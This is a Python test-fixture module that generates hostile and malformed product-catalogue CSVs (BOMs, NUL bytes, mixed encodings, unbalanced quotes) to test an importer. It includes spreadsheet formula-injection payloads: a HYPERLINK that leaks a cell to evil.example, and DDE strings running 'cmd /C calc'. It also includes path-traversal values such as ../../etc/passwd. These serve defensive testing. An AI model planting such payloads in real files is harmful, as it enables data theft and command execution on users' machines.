"""Hostile catalogue CSVs, made in code: formula injection, BOMs, NULs, mixed encodings."""

from __future__ import annotations

HEADER = "sku,name,brand,image_url\n"
URL = "https://images.example.com/a.jpg"
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    " =1+1",
    "\uff1d1+1",
    "\t=1+1",
)
# what a spreadsheet reads as the start of a formula (after leading spaces)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def csv_text(*rows: str, header: str = HEADER) -> str:
    return header + "".join(row + "\n" for row in rows)


def formula_in_sku(formula: str) -> bytes:
    quoted = '"' + formula.replace('"', '""') + '"'
    return csv_text(f"{quoted},Mug,Acme,{URL}").encode()


def formula_in_url() -> bytes:
    return csv_text('SKU-1,Mug,Acme,"=HYPERLINK(""http://evil.example"")"').encode()


def formula_in_name() -> bytes:
    return csv_text(f'SKU-1,"=HYPERLINK(""http://evil.example"",""x"")",Acme,{URL}').encode()


def with_bom() -> bytes:
    return b"\xef\xbb\xbf" + csv_text(f"SKU-1,Mug,Acme,{URL}").encode()


def with_nul() -> bytes:
    return csv_text(f"SKU-1,Mu\x00g,Acme,{URL}", f"SKU-2,Mug,Acme,{URL}").encode()


def mixed_encoding() -> bytes:
    """One row in UTF-8, one in Latin-1 (``é`` as a lone 0xE9 byte)."""
    return csv_text(f"SKU-1,Café,Acme,{URL}").encode() + f"SKU-2,Caf\xe9,Acme,{URL}\n".encode(
        "latin-1"
    )


def utf16() -> bytes:
    return csv_text(f"SKU-1,Mug,Acme,{URL}").encode("utf-16")


def long_line(chars: int = 70_000) -> bytes:
    return csv_text(f"SKU-1,{'M' * chars},Acme,{URL}", f"SKU-2,Mug,Acme,{URL}").encode()


def path_like_files() -> bytes:
    return csv_text(
        "SKU-1,Mug,Acme,,../../etc/passwd",
        "SKU-2,Mug,Acme,,/etc/passwd",
        "SKU-3,Mug,Acme,,C:\\Windows\\win.ini",
        header="sku,name,brand,image_url,image_file\n",
    ).encode()


def unbalanced_quotes() -> bytes:
    return csv_text(f'SKU-1,"Mug,Acme,{URL}', f"SKU-2,Mug,Acme,{URL}").encode()
